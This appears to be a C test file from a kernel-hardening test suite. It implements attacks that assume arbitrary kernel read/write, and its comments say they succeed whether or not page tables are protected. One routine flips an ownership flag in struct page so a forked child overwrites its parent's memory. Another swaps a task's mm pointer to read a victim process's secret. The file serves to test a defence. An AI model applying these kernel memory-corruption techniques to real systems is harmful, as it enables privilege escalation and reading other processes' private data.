// SPDX-License-Identifier: GPL-2.0-only
/*
 * Attacks that leave page tables alone. They land whether tables are
 * protected or not, and stay here to say so.
 */
#include <fcntl.h>
#include <sched.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

#include "attack.h"
#include "creds.h"
#include "files.h"
#include "list.h"
#include "objects.h"

/*
 * After fork() a page is shared until somebody writes. The flag "belongs to
 * one process only" in struct page makes the kernel skip the copy: the child
 * writes into its parent's memory.
 */
static void write_shared_page(volatile char *page, uint64_t flag)
{
	struct slot slot;
	uint64_t flags;

	if (kwalk((uint64_t)page, LEAF, 0, &slot))
		_exit(1);
	flags = kread64(slot.page);
	kwrite64(slot.page, flags | flag);
	strcpy((char *)page, "child's");
	_exit(0);
}

/* The flag that fork() takes away. */
static uint64_t exclusive_flag(uint64_t before, uint64_t after)
{
	uint64_t lost_flags = before & ~after;

	return lost_flags & (lost_flags - 1) ? 0 : lost_flags;
}

enum outcome page_struct(void)
{
	volatile char *page;
	struct slot slot;
	uint64_t before;
	int start[2];
	pid_t pid;
	char go;

	user_page((void **)&page);
	strcpy((char *)page, "parent's");
	if (pipe(start) || kwalk((uint64_t)page, LEAF, 0, &slot))
		return broken("no page");
	before = kread64(slot.page);
	pid = fork();
	if (!pid) {
		uint64_t flag = exclusive_flag(before, kread64(slot.page));

		if (read(start[0], &go, 1) == 1 && flag)
			write_shared_page(page, flag);
		_exit(1);
	}
	if (write(start[1], "g", 1) != 1)
		return broken("child died");
	waitpid(pid, NULL, 0);
	if (strcmp((char *)page, "child's"))
		return lost("the parent's page still says %s", (char *)page);
	return won("after one flag in struct page, a child's write changed its parent's private memory to \"%s\"",
		   (char *)page);
}

/* ---- what credentials are held against, or lead to ---- */

#define ROOT_TEXT	"root and its group may read this"

void root_file_create(void)
{
	int fd;

	unlink(ROOT_FILE);
	fd = open(ROOT_FILE, O_WRONLY | O_CREAT | O_EXCL, 0660);
	if (fd < 0 || write(fd, ROOT_TEXT, strlen(ROOT_TEXT)) < 0 || fchmod(fd, 0660))
		_exit(1);
	close(fd);
}

bool root_file_says(char *text, size_t size)
{
	return file_read(ROOT_FILE, text, size) > 0 && !strncmp(text, ROOT_TEXT, strlen(ROOT_TEXT));
}

/* ---- whose memory a task has ---- */

#define TASK_SIZE	8192	/* as much of it as has its mm */

/* Nobody is asked for the right to read one's own memory. Nothing may fault in between. */
enum outcome task_mm(void)
{
	char text[SECRET_SIZE] = "";
	struct iovec to = { text, SECRET_SIZE }, from = { (void *)victim_secret(), SECRET_SIZE };
	struct task own, other;
	uint64_t slot;
	int err;

	slot = ktask(0, &own) || ktask(victim_pid(), &other) ? 0 :
	       find_word(own.task, TASK_SIZE, own.mm);
	if (!slot)
		return broken("no pointer to own memory found");
	process_vm_readv(getpid(), &to, 1, &to, 1, 0);
	err = kwrite64(slot, other.mm);
	process_vm_readv(getpid(), &to, 1, &from, 1, 0);
	kwrite64(slot, own.mm);
	return judge_secret(text, err);
}
